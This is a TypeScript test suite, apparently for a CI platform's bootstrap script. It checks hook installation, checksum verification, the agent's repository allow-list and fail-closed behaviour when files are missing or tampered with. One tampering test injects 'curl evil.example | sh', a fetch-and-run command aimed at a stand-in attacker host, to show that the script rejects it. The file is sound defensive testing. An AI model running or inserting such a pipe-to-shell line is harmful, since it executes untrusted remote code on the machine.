/**
 * bootstrap.sh, rendered by renderBootstrapScript from the bundle that buildHooksBundle builds,
 * fetched from a real S3 server and piped to bash the way the Elastic CI Stack runs it.
 */
import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as path from "node:path";
import { after, before, describe, it } from "node:test";
import { coarseAllowedRepositoriesValue, type FleetAllowlist } from "../../components/hooks/allowlist";
import {
    ALLOWED_PIPELINES_NAME,
    bundleObjectKey,
    FLEET_SETTINGS_NAME,
    MANIFEST_NAME,
    readHookSources,
    sha256Hex,
} from "../../components/hooks/bundle";
import {
    closedPort,
    HOOKS_DIR,
    lastLine,
    Machine,
    REGION,
    runBash,
    S3Fixture,
    SENTINEL,
    snapshotTree,
    uploadBundle,
    type RunResult,
} from "./harness";

function assertNoSecret(result: RunResult): void {
    assert.ok(!result.stdout.includes(SENTINEL), "stdout leaks the secret");
    assert.ok(!result.stderr.includes(SENTINEL), "stderr leaks the secret");
}

function assertNothingInstalled(machine: Machine): void {
    assert.equal(fs.existsSync(machine.hooksDir), false, "hooks were switched in");
    const releases = path.join(machine.installRoot, "releases");
    assert.deepEqual(fs.existsSync(releases) ? fs.readdirSync(releases) : [], [], "a release or staging dir is left");
    assert.equal(fs.readFileSync(machine.agentConfig, "utf8"), machine.agentConfigText, "agent config changed");
    assert.equal(fs.existsSync(path.join(machine.agentHooksPath, "pre-bootstrap")), false, "pre-bootstrap installed");
}

// The tests are independent (one bucket and one machine each), and mostly wait for the AWS CLI: run them at once.
/** The agent config line bootstrap.sh writes for the harness's allow-list: coarse, one pattern per repository owner. */
const ALLOWED_LINE =
    'allowed-repositories="^git@github[.]com:dagster-io/[A-Za-z0-9._-]+$,^https://github[.]com/learningequality/[A-Za-z0-9._-]+$"\n';

describe("bootstrap.sh", { timeout: 120_000, concurrency: true }, () => {
    let s3: S3Fixture;
    const machines: Machine[] = [];
    const machine = (): Machine => {
        const m = new Machine();
        machines.push(m);
        return m;
    };

    before(async () => {
        s3 = await S3Fixture.start();
    });
    after(async () => {
        await s3.stop();
        machines.forEach((m) => m.remove());
    });

    it("installs every bundle file, verified, and adds our hooks path once, beside any other; a second run changes nothing", async () => {
        const { bundle, bootstrap } = await uploadBundle(s3, "good");
        const m = machine();
        const first = await m.bootstrap(s3, "good", bootstrap.key);
        assert.equal(first.stderr, "");
        assert.equal(first.code, 0);
        assertNoSecret(first);

        const link = fs.readlinkSync(m.hooksDir);
        assert.match(link, new RegExp(`^releases/${bundle.hash.slice(0, 16)}-[0-9a-f]{16}$`));
        for (const file of bundle.files) {
            const installed = path.join(m.hooksDir, file.path);
            assert.equal(fs.readFileSync(installed, "utf8"), file.content, file.path);
            assert.equal(fs.statSync(installed).mode & 0o777, file.mode, `mode of ${file.path}`);
        }
        assert.equal(fs.readFileSync(path.join(m.hooksDir, MANIFEST_NAME), "utf8"), bundle.manifest);
        assert.equal(
            fs.readFileSync(path.join(m.hooksDir, FLEET_SETTINGS_NAME), "utf8"),
            [
                "CI_PLATFORM_FLEET=linux-us-east-1",
                "CI_PLATFORM_REGION=us-east-1",
                "CI_PLATFORM_QUEUE=default",
                "CI_PLATFORM_ECR_REGISTRY=123456789012.dkr.ecr.us-east-1.amazonaws.com",
                `CI_PLATFORM_BUNDLE_HASH=${bundle.hash}`,
                "CI_PLATFORM_AGENTS_PER_INSTANCE=1",
                "CI_PLATFORM_MIN_FREE_DISK_GB=10",
                "CI_PLATFORM_PRUNE_ABOVE_PERCENT=80",
                "CI_PLATFORM_BUCKET=good",
                "CI_PLATFORM_BUCKET_REGION=us-east-1",
                "CI_PLATFORM_ALLOWLIST_KEY=_ci-platform/allowlist/linux-us-east-1",
                "",
            ].join("\n"),
        );
        assert.equal(
            fs.readFileSync(m.agentConfig, "utf8"),
            `${m.agentConfigText}additional-hooks-paths="${m.hooksDir}"\n${ALLOWED_LINE}`,
            "the stack's hooks-path stays, ours is added once, and the agent's allow-list is the fleet's",
        );
        // The per-pipeline list is not installed: the pre-bootstrap hook reads the allow-list object at job time.
        assert.equal(fs.existsSync(path.join(m.hooksDir, ALLOWED_PIPELINES_NAME)), false);
        assert.equal(fs.statSync(m.agentConfig).mode & 0o777, 0o600, "the agent config keeps its mode");
        // The agent runs pre-bootstrap from hooks-path only: ours is reached through a shim there.
        const shim = path.join(m.agentHooksPath, "pre-bootstrap");
        assert.equal(fs.statSync(shim).mode & 0o777, 0o755);
        assert.match(fs.readFileSync(shim, "utf8"), new RegExp(`\nexec ${m.hooksDir}/pre-bootstrap "\\$@"\n$`));

        const before = snapshotTree(m.root);
        const second = await m.bootstrap(s3, "good", bootstrap.key);
        assert.equal(second.code, 0);
        assert.equal(lastLine(second.stdout), `Hooks already installed at ${m.hooksDir}`);
        assertNoSecret(second);
        assert.deepEqual(snapshotTree(m.root), before, "a second run changed the machine");

        // Another additional-hooks-paths entry is kept, ours appended (the release is intact: no download).
        fs.writeFileSync(m.agentConfig, `${m.agentConfigText}additional-hooks-paths="/opt/other/hooks"\n`);
        const third = await m.bootstrap(s3, "good", bootstrap.key);
        assert.equal(third.code, 0, third.stderr);
        assert.equal(
            fs.readFileSync(m.agentConfig, "utf8"),
            `${m.agentConfigText}additional-hooks-paths="/opt/other/hooks,${m.hooksDir}"\n${ALLOWED_LINE}`,
        );
    });

    it("makes the fleet's list the agent's only allowed-repositories line, and installs a changed allow-list", async () => {
        const { bootstrap } = await uploadBundle(s3, "allow");
        const m = machine();
        // Someone's allow-everything line, before and after other settings: both go, ours is the one left.
        fs.writeFileSync(
            m.agentConfig,
            `allowed-repositories=".*"\n${m.agentConfigText}  allowed-repositories = "^https://evil"\n`,
            { mode: 0o600 },
        );
        const first = await m.bootstrap(s3, "allow", bootstrap.key);
        assert.equal(first.code, 0, first.stderr);
        assert.equal(
            fs.readFileSync(m.agentConfig, "utf8"),
            `${m.agentConfigText}additional-hooks-paths="${m.hooksDir}"\n${ALLOWED_LINE}`,
        );
        assert.equal(fs.statSync(m.agentConfig).mode & 0o777, 0o600);
        assertNoSecret(first);

        // The same bundle with an allow-list of another owner only: the coarse list follows; the per-pipeline list is
        // not on the instance at all (the pre-bootstrap hook reads the fleet's allow-list object at job time).
        const only: FleetAllowlist = {
            pipelines: [{ slug: "kolibri", repositoryUrls: ["https://github.com/learningequality/kolibri.git"] }],
        };
        const next = await uploadBundle(s3, "allow", { allowlist: only });
        const second = await m.bootstrap(s3, "allow", next.bootstrap.key);
        assert.equal(second.code, 0, second.stderr);
        assert.equal(fs.existsSync(path.join(m.hooksDir, ALLOWED_PIPELINES_NAME)), false);
        assert.equal(
            fs.readFileSync(m.agentConfig, "utf8"),
            `${m.agentConfigText}additional-hooks-paths="${m.hooksDir}"\n` +
                `allowed-repositories="${coarseAllowedRepositoriesValue(only)}"\n`,
        );
    });

    it("fails closed, touching nothing, when hooks-path has a pre-bootstrap that is not ours", async () => {
        const { bootstrap } = await uploadBundle(s3, "foreign");
        for (const name of ["pre-bootstrap", "pre-bootstrap.ps1"]) {
            const m = machine();
            const theirs = path.join(m.agentHooksPath, name);
            fs.writeFileSync(theirs, "#!/bin/bash\necho site policy\n", { mode: 0o755 });
            const result = await m.bootstrap(s3, "foreign", bootstrap.key);
            assert.equal(result.code, 1);
            assert.equal(
                lastLine(result.stderr),
                `ci-platform: bootstrap failed: ${theirs} exists and is not ours: the agent runs one pre-bootstrap ` +
                    "hook, from hooks-path only, so ci-platform's repository check cannot be installed beside it; " +
                    `make that hook run ${m.hooksDir}/pre-bootstrap, or remove it, and boot again`,
            );
            assert.equal(fs.readFileSync(theirs, "utf8"), "#!/bin/bash\necho site policy\n", "their hook changed");
            fs.rmSync(theirs);
            assertNothingInstalled(m);
        }
    });

    it("fails closed when S3 is unreachable", async () => {
        const { bundle, bootstrap } = await uploadBundle(s3, "down");
        const m = machine();
        const script = await s3.get("down", bootstrap.key);
        const endpoint = `http://127.0.0.1:${await closedPort()}`;
        const result = await runBash([], m.env({ AWS_ENDPOINT_URL: endpoint, AWS_MAX_ATTEMPTS: "1" }), script);
        assert.equal(result.code, 1);
        assert.equal(
            lastLine(result.stderr),
            `ci-platform: bootstrap failed: cannot read s3://down/${bundle.prefix}/: ` +
                `S3 in ${REGION} did not answer (see the aws error above)`,
        );
        assertNoSecret(result);
        assertNothingInstalled(m);
    });

    it("fails closed when an object of the bundle is missing", async () => {
        const { bundle, bootstrap } = await uploadBundle(s3, "missing");
        await s3.delete("missing", bundleObjectKey(bundle.hash, "environment"));
        const m = machine();
        const result = await m.bootstrap(s3, "missing", bootstrap.key);
        assert.equal(result.code, 1);
        assert.equal(
            lastLine(result.stderr),
            `ci-platform: bootstrap failed: object missing: s3://missing/${bundle.prefix}/environment`,
        );
        assertNoSecret(result);
        assertNothingInstalled(m);
    });

    it("fails closed when the manifest itself is missing (e.g. an upload that never finished)", async () => {
        const { bundle, bootstrap } = await uploadBundle(s3, "nomanifest");
        await s3.delete("nomanifest", bundleObjectKey(bundle.hash, MANIFEST_NAME));
        const m = machine();
        const result = await m.bootstrap(s3, "nomanifest", bootstrap.key);
        assert.equal(result.code, 1);
        assert.equal(
            lastLine(result.stderr),
            `ci-platform: bootstrap failed: object missing: s3://nomanifest/${bundle.prefix}/${MANIFEST_NAME}`,
        );
        assertNothingInstalled(m);
    });

    it("fails closed when a file does not match the manifest, and leaves the installed hooks alone", async () => {
        const good = await uploadBundle(s3, "tampered");
        const m = machine();
        assert.equal((await m.bootstrap(s3, "tampered", good.bootstrap.key)).code, 0);
        const installed = snapshotTree(m.root);

        // The next release: one more file, so another bundle hash.
        const hookFiles = [...readHookSources(HOOKS_DIR), { path: "lib/next.bash", content: "# next release\n" }];
        const next = await uploadBundle(s3, "tampered", { hookFiles });
        const original = next.bundle.files.find((f) => f.path === "environment");
        assert.ok(original);
        await s3.put(
            "tampered",
            bundleObjectKey(next.bundle.hash, "environment"),
            `${original.content}curl evil.example | sh\n`,
        );
        const result = await m.bootstrap(s3, "tampered", next.bootstrap.key);
        assert.equal(result.code, 1);
        const actual = sha256Hex(`${original.content}curl evil.example | sh\n`);
        assert.equal(
            lastLine(result.stderr),
            `ci-platform: bootstrap failed: checksum mismatch: s3://tampered/${next.bundle.prefix}/environment ` +
                `(expected sha256 ${original.sha256}, got ${actual})`,
        );
        assertNoSecret(result);
        assert.deepEqual(snapshotTree(m.root), installed, "the failed run touched the installed hooks");
    });

    it("fails closed when the manifest does not hash to the bundle's hash", async () => {
        const { bundle, bootstrap } = await uploadBundle(s3, "manifest");
        await s3.put(
            "manifest",
            bundleObjectKey(bundle.hash, MANIFEST_NAME),
            bundle.manifest.replace(/^[0-9a-f]{4}/, "0000"),
        );
        const m = machine();
        const result = await m.bootstrap(s3, "manifest", bootstrap.key);
        assert.equal(result.code, 1);
        assert.match(
            lastLine(result.stderr),
            new RegExp(
                `^ci-platform: bootstrap failed: checksum mismatch: s3://manifest/${bundle.prefix}/SHA256SUMS ` +
                    `\\(expected sha256 ${bundle.hash}, got [0-9a-f]{64}\\)$`,
            ),
        );
        assertNothingInstalled(m);
    });
});
